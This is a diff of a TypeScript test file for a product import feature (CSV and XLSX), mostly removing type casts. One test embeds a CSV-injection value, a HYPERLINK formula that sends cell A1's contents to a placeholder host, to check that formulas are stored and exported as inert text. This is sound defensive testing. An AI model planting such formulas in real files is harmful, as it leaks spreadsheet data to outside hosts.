@@ -3,7 +3,7 @@ import { count } from 'drizzle-orm'
 import { writeXlsx } from 'hucre'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { exportTypes } from '@banquet/contract/call/export'
-import { importCalls, type ImportRow } from '@banquet/contract/office/import'
+import { importCalls } from '@banquet/contract/office/import'
 import { addProductType, addUnit } from '../../../test/rows/goods.ts'
 import { runJobs } from '../../../test/jobs.ts'
 import { startServer, type Client, type Reply, type TestServer } from '../../../test/server.ts'
@@ -24,12 +24,12 @@ beforeAll(async () => {
 afterAll(() => server.close())
 
 const params = { noun: 'product' } as const
-const csv = (text: string | Buffer): Promise<Reply> =>
+const csv = (text: string | Buffer) =>
   admin.send(importCalls.upload, {
     params,
     upload: { name: '資料.csv', type: 'text/csv', content: Buffer.from(text) },
   })
-const xlsx = (content: Uint8Array): Promise<Reply> =>
+const xlsx = (content: Uint8Array) =>
   admin.send(importCalls.upload, { params, upload: { name: '資料.xlsx', type: exportTypes.xlsx, content } })
 
 const head = ['商品編號', '商品名稱', '商品分類', '單位', '未稅單價', '最低訂購量', '備註']
@@ -140,9 +140,8 @@ describe('a cell of the wrong type', () => {
       ['W-8', '零', 'T9', '公斤', 1, 0, ''],
       ['W-9', '長'.repeat(101), 'T9', '公斤', 1, 1, ''],
     ]
-    const { id, mapping } = (await xlsx(await book(rows))).body as ImportRow
-    const planned = (await admin.send(importCalls.preview, { params: { id }, body: { mapping } }))
-      .body as ImportRow
+    const { id, mapping } = (await xlsx(await book(rows))).body
+    const planned = (await admin.send(importCalls.preview, { params: { id }, body: { mapping } })).body
     expect(planned.counts).toEqual({ added: 1, edited: 0, skipped: 0, faulty: 8 })
     expect(planned.faults.map(({ row, field, code }) => `${row} ${field} ${code}`)).toEqual([
       '3 price number',
@@ -171,7 +170,7 @@ describe('a formula', () => {
       ['1,4', { value: null, formula: '12*25', formulaResult: 300 }],
     ])
     const sheet = await xlsx(await book([['Q-1', null, 'T9', '公斤', null, 1, '']], cells))
-    const { id, mapping, sample } = sheet.body as ImportRow
+    const { id, mapping, sample } = sheet.body
     expect(sample).toEqual([['Q-1', '', 'T9', '公斤', '300', '1', '']])
     const planned = await admin.send(importCalls.preview, { params: { id }, body: { mapping } })
     expect(planned.body).toMatchObject({ faults: [{ row: 2, field: 'name', code: 'required' }] })
@@ -180,16 +179,16 @@ describe('a formula', () => {
   test('in a CSV file is plain text, and is exported as such', async () => {
     const text = `=HYPERLINK(""http://example.com/?""&A1)`
     const sheet = await csv(`${head.join(',')}\nQ-2,"${text}",T9,公斤,1,1,@SUM(1)\n`)
-    const { id, mapping } = sheet.body as ImportRow
+    const { id, mapping } = sheet.body
     await admin.send(importCalls.run, { params: { id }, body: { mapping } })
     await runJobs(server, { jobs: [runImportJob] })
     const [row] = await server.ctx.db.select().from(products)
     expect(row).toMatchObject({ name: text.replaceAll('""', '"'), remark: '@SUM(1)' })
 
     const faulty = await csv(`${head.join(',')}\nQ-3,"${text}",沒有,公斤,1,1,\n`)
-    const { id: other } = faulty.body as ImportRow
+    const { id: other } = faulty.body
     await admin.send(importCalls.preview, { params: { id: other }, body: { mapping } })
     const list = await admin.send(importCalls.faults, { params: { id: other } })
-    expect(String(list.body)).toContain(`"'${text}"`)
+    expect(list.body).toContain(`"'${text}"`)
   })
 })
